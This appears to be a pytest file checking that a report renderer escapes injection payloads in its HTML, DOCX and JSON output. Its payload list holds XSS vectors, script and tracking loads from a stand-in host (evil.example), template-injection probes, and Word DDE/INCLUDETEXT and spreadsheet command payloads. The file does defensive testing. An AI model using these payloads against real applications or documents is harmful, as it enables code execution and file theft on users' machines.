"""No report text ever becomes code: an injection corpus in every text field (issue 8 §4).

Each payload is placed in every text field of the worked example (titles,
needs, descriptions, labels, partner names, place names...). The HTML is
opened in headless Chromium with its Content-Security-Policy bypassed, so
escaping alone has to stop the payload: no dialog, no request, no new element,
and the text shows literally. The DOCX is read back: the text is there as text
and no field is created. Each payload counts in the session's summary line.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterator
from typing import Any

import attrs
import pytest

import civicrecord
from browser import chromium, open_page
from civicrecord.model import Report

#: Markup, script, URL, CSS, template and Word field payloads, as people paste them.
PAYLOADS = [
    "<script>alert('xss-1')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '"><img src=x onerror=alert("xss-2")>',
    "'><svg onload=alert(3)>",
    "<svg><script>alert(4)</script></svg>",
    '<svg><a xlink:href="javascript:alert(5)"><text x="20" y="20">clic</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(6)>",
    '<iframe src="javascript:alert(7)"></iframe>',
    "<body onload=alert(8)>",
    '<a href="javascript:alert(9)">lien</a>',
    "javascript:alert(10)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=",
    '<details open ontoggle=alert(12)>',
    '<input autofocus onfocus=alert(13)>',
    "<style>body{background:url(https://evil.example/track)}</style>",
    "</style><script>alert(14)</script>",
    "expression(alert(15)); background:url(//evil.example/x)",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<!-- comment --><![CDATA[ ]]>",
    "{{ 7*7 }}",
    "{{ self.__init__.__globals__ }}",
    "{% for x in range(3) %}boucle{% endfor %}",
    "{# jinja comment #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    '{ DDE "cmd" "/c calc" }',
    '{ INCLUDETEXT "C:\\\\secret.txt" }',
    "MERGEFIELD nom \\* MERGEFORMAT",
    "{ HYPERLINK \"https://evil.example\" }",
    "=cmd|' /C calc'!A0",
    "&amp; &lt;b&gt; &#60;script&#62; \\u003cscript\\u003e",
    "‮gnp.exe ‭ zero\u200bwidth",
]
#: Fields that hold codes and cannot carry text (the validator would refuse a payload).
_CODES = {"language", "unit", "currency", "id", "url", "places", "partners", "programmes"}


def poison(value: Any, payload: str, name: str = "") -> Any:
    """Every free-text field of ``value`` with ``payload`` prepended."""
    if attrs.has(type(value)):
        return attrs.evolve(value, **{
            field.name: poison(getattr(value, field.name), payload, field.name)
            for field in attrs.fields(type(value))
        })
    if isinstance(value, tuple):
        return tuple(poison(item, payload, name) for item in value)
    if isinstance(value, str) and name not in _CODES:
        return f"{payload} {value}"
    return value


def _payload_id(payload: str) -> str:
    return re.sub(r"\W+", "-", payload)[:30].strip("-") or "payload"


@pytest.fixture(scope="module")
def browser(chromium_path: str) -> Iterator[Any]:
    with chromium(chromium_path) as launched:
        yield launched


#: Elements and attributes through which a page can run code or reach the network.
_ACTIVE_CONTENT_JS = """() => ({
  elements: document.querySelectorAll('script, iframe, object, embed, meta, link, base, form,'
    + ' input, details, math, style, svg script, [style]').length,
  handlers: [...document.querySelectorAll('*')].filter(e =>
    [...e.attributes].some(a => a.name.toLowerCase().startsWith('on'))).length,
  badLinks: [...document.querySelectorAll('[href], [src], [action]')].filter(e =>
    /^\\s*(javascript|data:text|vbscript)/i.test(e.getAttribute('href')
      || e.getAttribute('src') || e.getAttribute('action') || '')).length,
  externalLinks: [...document.links].filter(a => a.protocol !== 'https:'
    && a.protocol !== 'http:' && !a.getAttribute('href').startsWith('#')).length,
})"""


def _active_content(page: Any) -> dict[str, int]:
    counts: dict[str, int] = page.evaluate(_ACTIVE_CONTENT_JS)
    return counts


@pytest.fixture(scope="module")
def clean_html_counts(browser: Any, example_report: Report) -> dict[str, int]:
    """What the unpoisoned page has of those: the renderer's own meta and style only."""
    html = civicrecord.render(example_report, "html").decode("utf-8")
    with open_page(browser, html, bypass_csp=True) as watch:
        counts = _active_content(watch.page)
    assert counts["handlers"] == 0 and counts["badLinks"] == 0
    return counts


@pytest.mark.chromium
@pytest.mark.parametrize("payload", PAYLOADS, ids=_payload_id)
def test_html_payload_runs_nothing_and_shows_literally(
        browser: Any, example_report: Report, payload: str, hostile_tally: Any,
        clean_html_counts: dict[str, int]) -> None:
    with hostile_tally.trying("injection payloads (html)"):
        report = poison(example_report, payload)
        html = civicrecord.render(report, "html").decode("utf-8")
        with open_page(browser, html, bypass_csp=True) as watch:
            page = watch.page
            page.wait_for_timeout(50)
            assert watch.dialogs == []
            assert watch.requests == []
            assert watch.page_errors == []
            assert _active_content(page) == clean_html_counts
            assert page.locator("h1").text_content() == report.title
            body = page.inner_text("body")
            visible = " ".join(payload.split())
            assert body.count(visible) >= 2 * len(report.axes), "payload not shown literally"
            assert "49" not in (page.locator("h1").text_content() or "")


def _docx_xml(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist()
                if name.endswith(".xml")}


@pytest.fixture(scope="module")
def clean_docx_fields(example_report: Report) -> int:
    """How many fields the example makes by itself (contents, page numbers)."""
    parts = _docx_xml(civicrecord.render(example_report, "docx"))
    return sum(_field_count(xml) for xml in parts.values())


def _field_count(xml: str) -> int:
    return xml.count("<w:fldSimple") + xml.count("<w:instrText")


@pytest.mark.parametrize("payload", PAYLOADS, ids=_payload_id)
def test_docx_payload_is_text_and_creates_no_field(
        example_report: Report, payload: str, clean_docx_fields: int,
        hostile_tally: Any) -> None:
    import docx

    with hostile_tally.trying("injection payloads (docx)"):
        report = poison(example_report, payload)
        data = civicrecord.render(report, "docx")
        parts = _docx_xml(data)
        assert sum(_field_count(xml) for xml in parts.values()) == clean_docx_fields
        document = docx.Document(io.BytesIO(data))
        # Each axis is a numbered chapter ("1. title").
        headings = [p.text for p in document.paragraphs if p.style.name == "Heading 1"]
        assert [h.split(". ", 1)[1] for h in headings if re.match(r"\d+\. ", h)] == [
            axis.title for axis in report.axes]
        text = "\n".join(p.text for p in document.paragraphs)
        assert text.count(payload.split(" ")[0]) >= len(report.axes)


@pytest.mark.parametrize("payload", PAYLOADS, ids=_payload_id)
def test_json_payload_round_trips_unchanged(example_report: Report, payload: str,
                                            tmp_path: Any, hostile_tally: Any) -> None:
    with hostile_tally.trying("injection payloads (json)"):
        report = poison(example_report, payload)
        path = civicrecord.write(report, "json", tmp_path)
        assert civicrecord.load(path) == report
